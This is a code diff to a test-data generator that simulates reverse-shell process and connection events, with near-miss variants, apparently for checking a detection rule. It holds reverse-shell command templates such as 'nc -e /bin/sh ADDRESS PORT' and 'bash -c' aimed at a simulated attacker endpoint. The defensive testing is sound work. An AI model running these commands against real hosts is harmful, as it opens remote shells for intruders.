@@ -7,17 +7,12 @@ from functools import partial
 
 from runner.sample_data.addresses import Endpoint, attacker
 from runner.sample_data.attacks import (
-    AWK,
-    BASH,
-    PERL_EXEC,
-    PYTHON_CALL,
     SECOND,
     Pair,
     Scene,
     look_around,
+    program_of,
     stager,
-    to_address,
-    utility,
     way_in,
 )
 from runner.sample_data.processes import Process, SampleProgram
@@ -35,7 +30,7 @@ def _soon(line: Timeline) -> None:
 def _opener(line: Timeline, remote: Endpoint | None = None) -> tuple[Process, Endpoint]:
     """A shell that is about to connect, started as in the attacks, and the address: an attacker's by default."""
     remote = attacker(line.rng) if remote is None else remote
-    process = line.run(way_in(line), SampleProgram("/usr/bin/bash", ("bash", "-c", to_address(BASH, remote))))
+    process = line.run(way_in(line), program_of(line, "/usr/bin/bash bash -c @bash", remote))
     line.wait(1_000, 60_000)
     return process, remote
 
@@ -103,7 +98,7 @@ def shell_on_windows(scene: Scene) -> Pair:
     line = scene.windows
     remote = attacker(line.rng)
     path = "C:\\cygwin64\\bin\\bash"
-    opener = line.start(line.machine.sessions[0], SampleProgram(path, ("bash", "-c", to_address(BASH, remote))))
+    opener = line.start(line.machine.sessions[0], program_of(line, f"{path} bash -c @bash", remote))
     first = line.connect(opener, remote)
     _soon(line)
     child = line.machine.begin(SampleProgram(path, ("bash", "-i")), opener.user, at=line.now, parent=opener)
@@ -181,24 +176,21 @@ REVERSE_SHELL_NEAR_MISSES: tuple[tuple[str, NearMiss], ...] = (
 
 # A utility starts, then connects: but not quite.
 
-PYTHON = "PYTHON python3 -c SCRIPT"
+PYTHON = "PYTHON python3 -c @python_subprocess"
 NC = "/usr/bin/nc nc -e /bin/sh ADDRESS PORT"
-PYTHON_RUN = PYTHON_CALL.replace("subprocess.call(", "subprocess.run(")
 
 
-def _utility(line: Timeline, command: str, remote: Endpoint, *, script: str = PYTHON_CALL) -> tuple[Process, str]:
+def _utility(line: Timeline, command: str, remote: Endpoint) -> tuple[Process, str]:
     """A utility that is about to connect, started as in the attacks, and the id of its start."""
-    process = line.run(stager(line), utility(line, command, remote, script=script))
+    process = line.run(stager(line), program_of(line, command, remote))
     return process, line.last_id
 
 
-def utility_runs(
-    scene: Scene, *, command: str = PYTHON, script: str = PYTHON_CALL, gap: int = 0, address: str = ""
-) -> Pair:
+def utility_runs(scene: Scene, *, command: str = PYTHON, gap: int = 0, address: str = "") -> Pair:
     """A utility starts and connects, with other arguments, an excluded address or too long a gap."""
     line = scene.here
     remote = Endpoint("", address, 80) if address else attacker(line.rng)
-    process, first = _utility(line, command, remote, script=script)
+    process, first = _utility(line, command, remote)
     if gap:
         line.now += gap
     else:
@@ -233,7 +225,7 @@ def utility_start(scene: Scene, *, action: str, types: tuple[str, ...], lacks: s
     line = scene.here
     remote = attacker(line.rng)
     parent = stager(line)
-    program = utility(line, "/usr/bin/perl perl -e SCRIPT", remote, script=PERL_EXEC)
+    program = program_of(line, "/usr/bin/perl perl -e @perl_exec", remote)
     process = line.machine.begin(program, parent.user, at=line.now, parent=parent)
     first = line.add_process(process, action, types=list(types), lacking=lacks)
     _soon(line)
@@ -246,7 +238,7 @@ def utility_of_other_entity(scene: Scene) -> Pair:
     remote = attacker(line.rng)
     parent = stager(line)
     bystander = line.run(parent, SampleProgram("/usr/bin/ruby", ("ruby", "/srv/app/bin/sidekiq")))
-    line.run(parent, utility(line, PYTHON, remote, script=PYTHON_CALL))
+    line.run(parent, program_of(line, PYTHON, remote))
     first = line.last_id
     _soon(line)
     return first, line.connect(bystander, remote)
@@ -260,7 +252,7 @@ def utility_connects_before(scene: Scene) -> Pair:
     line.wait(2_000, 40_000)
     second = line.connect(process, remote)
     _soon(line)
-    return line.execute(process, utility(line, NC, remote)), second
+    return line.execute(process, program_of(line, NC, remote)), second
 
 
 def utility_on_windows(scene: Scene) -> Pair:
@@ -269,7 +261,7 @@ def utility_on_windows(scene: Scene) -> Pair:
     remote = attacker(line.rng)
     path = "C:\\Program Files\\Python312\\python.exe"
     parent = line.start(line.machine.sessions[0], SampleProgram(path, (path, "C:\\Temp\\stage.py")))
-    program = SampleProgram(path, ("python3", "-c", to_address(PYTHON_CALL, remote)))
+    program = SampleProgram(path, program_of(line, PYTHON, remote).args)
     process = line.machine.begin(program, parent.user, at=line.now, parent=parent)
     first = line.add_process(process, "exec", types=["start"])
     _soon(line)
@@ -280,7 +272,7 @@ def utility_of_service(scene: Scene) -> Pair:
     """A service that the rule does not name starts the utility."""
     line = scene.here
     remote = attacker(line.rng)
-    program = utility(line, PYTHON, remote, script=PYTHON_CALL)
+    program = program_of(line, PYTHON, remote)
     process = line.spawn(line.machine.services["cron"], program)
     first = line.last_id
     _soon(line)
@@ -299,15 +291,15 @@ CHILD_PROCESS_NEAR_MISSES: tuple[tuple[str, NearMiss], ...] = (
     ("two arguments", partial(utility_runs, command="/usr/bin/telnet telnet ADDRESS")),
     ("argument in another case", partial(utility_runs, command="/usr/bin/nc nc -E /bin/sh ADDRESS PORT")),
     ("process.parent.name not in the list", utility_of_service),
-    ("process.name not in the list", partial(utility_runs, command="/usr/bin/gawk gawk SCRIPT", script=AWK)),
+    ("process.name not in the list", partial(utility_runs, command="/usr/bin/gawk gawk @awk")),
     ("disconnect_received", partial(utility_event, action="disconnect_received", types=("start", "end"))),
     ("other entity", utility_of_other_entity),
     ("multicast 224.0.0.0/4", partial(utility_runs, address="224.0.0.251")),
     ("loopback ::1", partial(utility_runs, address="::1")),
-    ("other arguments", partial(utility_runs, script=PYTHON_RUN)),
+    ("other arguments", partial(utility_runs, command="PYTHON python3 -c @python_run")),
     ("event.type end of the process", partial(utility_start, action="exec", types=("end",))),
     ("event.action already_running", partial(utility_start, action="already_running", types=("start", "info"))),
     ("no process.parent.name", partial(utility_start, action="exec", types=("start",), lacks="name")),
     ("event.type end of the connection", partial(utility_event, types=("end",))),
-    ("perl of a version", partial(utility_runs, command="/usr/bin/perl5.36.0 perl -e SCRIPT", script=PERL_EXEC)),
+    ("perl of a version", partial(utility_runs, command="/usr/bin/perl5.36.0 perl -e @perl_exec")),
 )
